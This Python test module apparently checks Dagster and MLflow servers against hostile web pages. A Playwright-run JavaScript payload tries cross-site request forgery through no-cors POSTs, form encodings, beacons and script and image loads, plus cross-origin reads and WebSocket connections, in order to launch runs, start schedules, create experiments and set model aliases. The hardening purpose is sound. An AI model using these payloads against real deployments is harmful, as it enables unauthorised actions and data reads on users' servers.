"""Attacks of a hostile web page on Dagster's and MLflow's servers in a user's browser, and how success is detected.

The page is served from another port of this machine and opened in a real browser. Each attempt has a name that is
visible wherever it takes effect: as one of Dagster's pools, as an asset key, or as one of MLflow's experiments.
`OpenServer` refuses nothing, so that a test can verify that each attempt does leave the browser.
"""

from __future__ import annotations

import base64
import hashlib
import http.client
import re
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus, urlsplit

import requests
from playwright.sync_api import Page
from serving import Served

MODEL = "listing_counterfeit"
SCHEDULE = (
    '{repositoryLocationName: "orchestration.definitions", repositoryName: "__repository__", '
    'scheduleName: "daily_schedule"}'
)
LAUNCH = (
    'mutation launch { launchRun(executionParams: {mode: "default", selector: {pipelineName: "land_and_shape", '
    'repositoryLocationName: "orchestration.definitions", repositoryName: "__repository__"}}) { __typename } }'
)
STATE = f"""{{
  instance {{ concurrencyLimits {{ concurrencyKey }} }}
  assetsOrError {{ ... on AssetConnection {{ nodes {{ key {{ path }} }} }} }}
  runsOrError {{ ... on Runs {{ results {{ runId }} }} }}
  scheduleOrError(scheduleSelector: {SCHEDULE}) {{ ... on Schedule {{ scheduleState {{ status }} }} }}
}}"""
# Names of the attempts that change something if they arrive.
CHANGES = (
    *("post", "post-json-as-text", "get", "img", "script-get", "form-urlencoded", "form-multipart", "form-text"),
    *("beacon", "beacon-json", "report", "schedule", "launch", "cors-post"),
    *("mlflow-post", "mlflow-form", "mlflow-beacon", "mlflow-cors", "mlflow-alias"),
)
# Names of the attempts that read something if they are answered.
READS = (
    *("read-get", "read-post", "read-page", "script", "image", "graphql-ws", "graphql-transport-ws"),
    *("mlflow-read-runs", "mlflow-read-version", "mlflow-read-graphql", "mlflow-script", "mlflow-image"),
)
# The open server's responses by path suffix: a page, a script, an image.
CONTENT = {
    "": (
        "text/html",
        b'<!doctype html><title>elsewhere</title><body>a page from elsewhere<!-- src="/any.js" --></body>',
    ),
    ".js": ("text/javascript", b"0"),
    ".svg": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'),
    ".ico": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'),
}
SOCKET_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # RFC 6455
ATTACK = """async ({dagster, mlflow, dagster_script, mlflow_script, schedule, launch, model}) => {
  const seen = {};
  const wait = milliseconds => new Promise(done => setTimeout(done, milliseconds));
  const soon = promise => Promise.race([promise, wait(3000)]).catch(() => undefined);
  const pool = name => `mutation { setConcurrencyLimit(concurrencyKey: "${name}", limit: 1) }`;
  const address = query => `${dagster}/graphql?query=${encodeURIComponent(query)}`;
  const text = {mode: 'no-cors', method: 'POST', credentials: 'include', headers: {'Content-Type': 'text/plain'}};
  const json = {mode: 'cors', method: 'POST', headers: {'Content-Type': 'application/json'}};
  const read = async (name, url, options) => {
    const answer = await soon(fetch(url, options).then(answer => answer.text()));
    if (answer) seen[name] = answer.slice(0, 300);
  };
  const load = (name, tag, attributes) => soon(new Promise(done => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = () => { seen[name] = `${tag} loaded`; done(); };
    element.onerror = done;
    document.body.append(element);
  }));
  const frame = (name, url) => {
    const element = Object.assign(document.createElement('iframe'), {name, src: url || 'about:blank'});
    document.body.append(element);
  };
  const form = (name, action, enctype, fields) => {
    frame(name);
    const element = Object.assign(document.createElement('form'), {action, enctype, method: 'POST', target: name});
    for (const [key, value] of Object.entries(fields)) {
      element.append(Object.assign(document.createElement('input'), {name: key, value}));
    }
    document.body.append(element);
    element.submit();
  };
  const socket = (name, protocol) => soon(new Promise(done => {
    const opened = new WebSocket(`${dagster.replace('http', 'ws')}/graphql`, protocol);
    opened.onopen = () => { seen[name] = 'opened'; opened.send(JSON.stringify({type: 'connection_init', payload: {}})); };
    opened.onmessage = message => { seen[name] = message.data; done(); };
    opened.onerror = done;
  }));
  const create = name => JSON.stringify({name});

  await soon(fetch(address(pool('post')), text));
  await soon(fetch(`${dagster}/graphql`, {...text, body: JSON.stringify({query: pool('post-json-as-text')})}));
  await soon(fetch(address(pool('get')), {mode: 'no-cors'}));
  await load('', 'img', {src: address(pool('img'))});
  await load('', 'script', {src: address(pool('script-get'))});
  form('form-urlencoded', address(pool('form-urlencoded')), 'application/x-www-form-urlencoded', {a: 'b'});
  form('form-multipart', address(pool('form-multipart')), 'multipart/form-data', {a: 'b'});
  form('form-text', address(pool('form-text')), 'text/plain', {a: 'b'});
  navigator.sendBeacon(address(pool('beacon')), 'text');
  const beacon = new Blob([JSON.stringify({query: pool('beacon-json')})], {type: 'application/json'});
  navigator.sendBeacon(`${dagster}/graphql`, beacon);
  await soon(fetch(`${dagster}/report_asset_materialization/report`, {mode: 'no-cors', method: 'POST'}));
  await soon(fetch(address(`mutation schedule { startSchedule(scheduleSelector: ${schedule}) { __typename } }`), text));
  await soon(fetch(address(launch), text));
  await read('cors-post', `${dagster}/graphql`, {...json, body: JSON.stringify({query: pool('cors-post')})});
  await read('read-get', address('{ version }'));
  await read('read-post', `${dagster}/graphql`, {...json, body: JSON.stringify({query: '{ version }'})});
  await read('read-page', `${dagster}/server_info`);
  await load('script', 'script', {src: dagster_script});
  await load('image', 'img', {src: `${dagster}/favicon.svg`});
  await socket('graphql-ws', 'graphql-ws');
  await socket('graphql-transport-ws', 'graphql-transport-ws');
  frame('frame', `${dagster}/runs`);

  const experiments = `${mlflow}/api/2.0/mlflow/experiments/create`;
  await soon(fetch(experiments, {...text, body: create('mlflow-post')}));
  form('form-mlflow', experiments, 'text/plain', {'{"name": "mlflow-form", "tags": [], "a': '": 1}'});
  navigator.sendBeacon(experiments, create('mlflow-beacon'));
  await read('mlflow-cors', experiments, {...json, body: create('mlflow-cors')});
  const alias = {name: model, alias: 'mlflow-alias', version: '1'};
  await read('mlflow-alias', `${mlflow}/api/2.0/mlflow/registered-models/alias`, {...json, body: JSON.stringify(alias)});
  const search = JSON.stringify({experiment_ids: ['0', '1', '2', '3', '4']});
  await read('mlflow-read-runs', `${mlflow}/ajax-api/2.0/mlflow/runs/search`, {...json, body: search});
  await read('mlflow-read-version', `${mlflow}/version`);
  const query = JSON.stringify({query: '{ mlflowSearchRuns(input: {experimentIds: ["1"]}) { runs { info { runId } } } }'});
  await read('mlflow-read-graphql', `${mlflow}/graphql`, {...json, body: query});
  await load('mlflow-script', 'script', {src: mlflow_script});
  await load('mlflow-image', 'img', {src: `${mlflow}/static-files/favicon.ico`});
  frame('frame-mlflow', `${mlflow}/`);
  await wait(2000);
  delete seen[''];
  return seen;
}"""


@dataclass(frozen=True)
class Outcome:
    """What a hostile page could read, by attempt, and the addresses of the frames that it could display."""

    seen: dict[str, str]
    frames: dict[str, str]


def attack(page: Page, dagster: str, mlflow: str) -> Outcome:
    """Makes every attempt from the open page."""
    addresses = {"dagster": dagster, "mlflow": mlflow}
    scripts = {f"{name}_script": script_of(address) for name, address in addresses.items()}
    seen = page.evaluate(ATTACK, {**addresses, **scripts, "schedule": SCHEDULE, "launch": LAUNCH, "model": MODEL})
    shown = {frame.name: frame.url for frame in page.frames[1:] if not frame.url.startswith("chrome-error:")}
    return Outcome(seen, shown)


def script_of(address: str) -> str:
    """Returns the address of a script that a server's page loads."""
    page = requests.get(f"{address}/", timeout=60).text
    (script, *_) = re.findall(r'src="([^"]+\.js)"', page)
    return f"{address}/{script.removeprefix('/')}"


def state(served: Served) -> dict[str, Any]:
    """Returns the state that an attempt would change: Dagster's pools, assets, runs, schedule; MLflow's registry."""
    api = f"{served.mlflow}/api/2.0/mlflow"
    experiments = requests.post(f"{api}/experiments/search", json={"max_results": 1000}, timeout=60).json()
    models = requests.get(f"{api}/registered-models/search", timeout=60).json()
    return {
        "dagster": served.ask(STATE),
        "experiments": sorted(found["name"] for found in experiments["experiments"]),
        "aliases": {found["name"]: found.get("aliases") for found in models["registered_models"]},
    }


@dataclass
class OpenServer:
    """A server that responds to every request and records it.

    Attributes:
        port: The port it listens on, on this machine only.
        asked: Address and body of each request.
    """

    port: int
    asked: list[str] = field(default_factory=list)

    def arrived(self) -> set[str]:
        """Returns the names of the attempts that arrived."""
        words = re.split(r"[^a-z-]+", unquote_plus("\n".join(self.asked)))
        return set(CHANGES).intersection(words)


@contextmanager
def open_server() -> Iterator[OpenServer]:
    """Serves a page at `/`, and the same page without an origin (`null`) at `/sandboxed`, until the block ends."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self) -> None:
            if key := self.headers.get("Sec-WebSocket-Key"):
                self.open_socket(key)
                return
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            if self.command != "OPTIONS":
                found.asked.append(f"{self.path}\n{body.decode()}")
            self.send_response(200)
            content_type, content = CONTENT.get(Path(self.path).suffix, CONTENT[""])
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(content)))
            for name, value in {
                "Origin": self.headers.get("Origin", "*"),
                "Methods": "*",
                "Headers": "content-type",
            }.items():
                self.send_header(f"Access-Control-Allow-{name}", value)
            self.send_header("Access-Control-Allow-Credentials", "true")
            if self.path == "/sandboxed":
                self.send_header("Content-Security-Policy", "sandbox allow-scripts allow-forms")
            self.end_headers()
            self.wfile.write(content)

        def open_socket(self, key: str) -> None:
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            accept = base64.b64encode(hashlib.sha1(f"{key}{SOCKET_GUID}".encode()).digest())  # noqa: S324  # the protocol's
            self.send_header("Sec-WebSocket-Accept", accept.decode())
            self.send_header("Sec-WebSocket-Protocol", self.headers["Sec-WebSocket-Protocol"])
            self.end_headers()
            self.wfile.write(b"\x81\x02hi")  # a frame of two bytes
            self.close_connection = True

        do_GET = do_POST = do_OPTIONS = answer  # noqa: N815  # names that http.server looks for

        def log_message(self, *_: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = OpenServer(server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield found
        server.shutdown()


@dataclass(frozen=True)
class Answer:
    """A server's response to a request whose headers the test sets."""

    status: int
    headers: http.client.HTTPMessage
    text: str


def ask_raw(
    address: str, method: str, path: str, headers: Mapping[str, str] | list[tuple[str, str]], body: str = ""
) -> Answer:
    """Sends a request with exactly these headers; neither Host nor Content-Type is added."""
    parts = urlsplit(address)
    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=60)
    try:
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for name, value in headers.items() if isinstance(headers, Mapping) else headers:
            connection.putheader(name, value)
        if body or method not in {"GET", "HEAD", "OPTIONS"}:
            connection.putheader("Content-Length", str(len(body.encode())))
        connection.endheaders(body.encode())
        response = connection.getresponse()
        return Answer(response.status, response.headers, response.read().decode(errors="replace"))
    finally:
        connection.close()
